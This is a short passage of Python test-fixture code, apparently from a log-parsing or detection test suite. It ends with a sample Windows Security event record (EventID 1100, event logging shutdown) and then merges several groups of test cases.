        "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='Microsoft-Windows-Eventlog'/>"
        "<EventID>1100</EventID><TimeCreated SystemTime='2026-11-23T02:00:00.1234567Z'/><Channel>Security</Channel><Computer>dc1.a.example</Computer>"
        "</System></Event>\n",
    ),
)  # fmt: skip

CASES: tuple[Case, ...] = DATABASE + WEB + NETWORK + CLOUD + HOST
